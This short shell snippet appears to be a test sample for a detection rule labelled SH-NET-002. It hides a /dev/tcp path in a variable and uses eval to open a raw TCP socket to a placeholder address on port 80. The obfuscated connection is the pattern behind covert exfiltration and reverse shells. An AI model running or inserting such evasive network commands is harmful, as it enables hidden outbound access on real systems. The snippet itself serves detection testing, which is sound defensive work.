# rule: SH-NET-002
# attempts: Network is unreachable
p=/dev/tcp
eval "exec 3<>$p/203.0.113.9/80"
